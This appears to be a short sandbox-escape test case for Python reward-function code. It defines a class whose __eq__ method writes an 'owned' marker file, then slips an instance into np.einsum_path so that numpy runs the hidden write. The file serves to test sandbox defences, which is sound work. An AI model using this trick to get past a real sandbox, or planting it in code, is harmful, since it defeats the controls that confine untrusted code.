# attack: np.einsum_path with a callable
# group: numpy
# wall: language; alone: seccomp (no open)

class A:
    def __eq__(self, o): open('@FOLDER@/owned', 'w')
    __hash__ = None


def compute_reward(x):
    np.einsum_path('i,i', x, x, optimize=A())
    return x, {}
